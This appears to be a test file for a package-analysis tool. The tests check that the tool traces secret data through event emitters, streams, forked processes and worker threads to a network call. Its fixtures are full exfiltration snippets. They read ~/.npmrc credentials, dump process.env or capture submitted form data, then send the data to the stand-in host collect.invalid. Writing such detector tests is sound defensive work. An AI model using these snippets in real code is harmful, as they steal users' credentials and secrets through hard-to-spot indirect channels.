import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { flowsOf } from './sent.js';

const SEND = `https.request('https://collect.invalid').end`;
const SENT = 'credential-file>network@collect.invalid';

const WAYS: readonly string[] = [
  `const e = new events(); e.on('x', (v) => ${SEND}(v)); e.emit('x', s);`,
  `const e = new events.EventEmitter(); e.emit('x', 1, s); e.addListener('x', (_, v) => ${SEND}(v));`,
  `class Bus extends events {} const e = new Bus(); e.once('x', (v) => ${SEND}(v)); e.emit('x', s);`,
  `const e = new events(); e.on(String(Date.now()), (v) => ${SEND}(v)); e.emit('x', s);`,
  `const e = new EventTarget(); e.addEventListener('x', ({ detail }) => ${SEND}(detail)); e.dispatchEvent(new CustomEvent('x', { detail: s }));`,
  `const p = new stream.PassThrough(); p.on('data', (d) => ${SEND}(d)); p.end(s);`,
];

describe('events of the package itself', () => {
  for (const way of WAYS) {
    it(`bring data to whoever listens: ${way}`, () => {
      const flows = flowsOf(way);
      assert.ok(flows.includes(SENT), flows.join('; '));
    });
  }

  it('bring it through the page', () => {
    const form = `new FormData(e.target)`;
    const listen = (name: string, use: string): string =>
      `document.addEventListener('submit', (e) => e.target.dispatchEvent(new CustomEvent('own:sent', { bubbles: true, detail: ${form} }))); document.addEventListener('${name}', ${use});`;
    const sent = ['keystrokes>network@collect.invalid'];
    const send = `navigator.sendBeacon('https://collect.invalid', new URLSearchParams([...detail.entries()]))`;
    assert.deepEqual(flowsOf(listen('own:sent', `({ detail }) => ${send}`)), sent);
    assert.deepEqual(flowsOf(listen('own:sent', `(event) => { const { detail } = event; ${send}; }`)), sent);
    assert.deepEqual(flowsOf(listen('own:other', `({ detail }) => ${send}`)), []);
    assert.deepEqual(
      flowsOf(
        `window.dispatchEvent(new CustomEvent('a', { detail: s })); window.addEventListener('a', (e) => fetch('https://collect.invalid', { body: e.detail }));`,
      ),
      [SENT],
    );
  });

  it('do not bring it to who listens to something else', () => {
    assert.deepEqual(flowsOf(`const e = new events(); e.on('y', (v) => ${SEND}(v)); e.emit('x', s);`), []);
  });

  it('go to a process of the same file, which waits for one message', () => {
    for (const listen of ['on', 'once'])
      assert.ok(
        flowsOf(`if (process.argv[2] === '--post') process.${listen}('message', (m) => { ${SEND}(JSON.stringify(m)); });
          const child = cp.fork(__filename, ['--post']); child.send({ text: s });`).includes(SENT),
        listen,
      );
  });

  it('go between workers and who starts them, by whatever channel', () => {
    const start = `const { Worker, MessageChannel } = require('worker_threads'); const path = require('path'); const w = new Worker(path.join(__dirname, 'w.js'));`;
    const send = (data: string): string =>
      `require('https').request('https://collect.invalid', { method: 'POST' }).end(${data});`;
    const read = `require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')`;
    for (const [main, worker] of [
      [
        `${start} w.on('message', ({ file }) => { ${send('file')} });`,
        `require('worker_threads').parentPort.postMessage({ file: ${read} });`,
      ],
      [
        `${start} w.postMessage({ file: ${read} });`,
        `const { parentPort } = require('worker_threads'); parentPort.on('message', (m) => { ${send('m.file')} });`,
      ],
      [
        `${start} const { port1, port2 } = new MessageChannel(); w.postMessage({ port: port2 }, [port2]); port1.on('message', (m) => { ${send('m.file')} });`,
        `let port; require('worker_threads').parentPort.on('message', ({ port: p }) => { port = p; port.postMessage({ file: ${read} }); });`,
      ],
      [
        `const w = new Worker('./w.js'); w.onmessage = (e) => { ${send('e.data')} };`,
        `self.onmessage = () => { postMessage(${read}); }; self.postMessage(${read});`,
      ],
      [
        `const w = new Worker('./w.js'); w.postMessage(${read});`,
        `addEventListener('message', ({ data }) => { ${send('data')} });`,
      ],
      [`const w = new Worker('./w.js'); w.postMessage(${read});`, `onmessage = ({ data }) => { ${send('data')} };`],
    ] as const) {
      const { flows } = analysePackage(packageOf({ 'index.js': main, 'w.js': worker }));
      const seen = flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`);
      assert.deepEqual([...new Set(seen)], [SENT], `${main} ${worker}`);
    }
  });

  it('bring what a worker found to the code that started it', () => {
    const { flows } = analysePackage(
      packageOf({
        'index.js': `const { Worker } = require('worker_threads'); const w = new Worker(require('path').join(__dirname, 'w.js'));
          w.on('message', (m) => require('https').request('https://collect.invalid').end(m));`,
        'w.js': `const { parentPort } = require('worker_threads'); parentPort.postMessage(JSON.stringify(process.env));`,
      }),
    );
    assert.deepEqual(
      flows.map(({ source, sink, host }) => [source, sink, host]),
      [['environment', 'network', 'collect.invalid']],
    );
  });

  it('between a program and what it has started: by messages, and by what a worker is given', () => {
    const facts = (main: string, other: string): readonly string[] =>
      analysePackage(packageOf({ 'index.js': main, 'w.js': other })).flows.map(
        ({ source, sink }) => `${source}>${sink}`,
      );
    const send = (what: string): string =>
      `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${what}) })`;
    assert.deepEqual(
      facts(
        `const c = require('child_process').fork(__dirname + '/w.js'); c.send({ e: process.env });`,
        `process.on('message', ({ e }) => ${send('e')});`,
      ),
      ['environment>network'],
    );
    assert.deepEqual(
      facts(
        `const { Worker } = require('worker_threads'); new Worker(__dirname + '/w.js', { workerData: { e: { ...process.env } } });`,
        `const { workerData } = require('worker_threads'); ${send('workerData.e')};`,
      ),
      ['environment>network'],
    );
    assert.deepEqual(
      facts(
        `const c = require('child_process').fork(__dirname + '/w.js'); c.send({ size: 3 });`,
        `process.on('message', ({ size }) => ${send('size')});`,
      ),
      [],
    );
  });
});
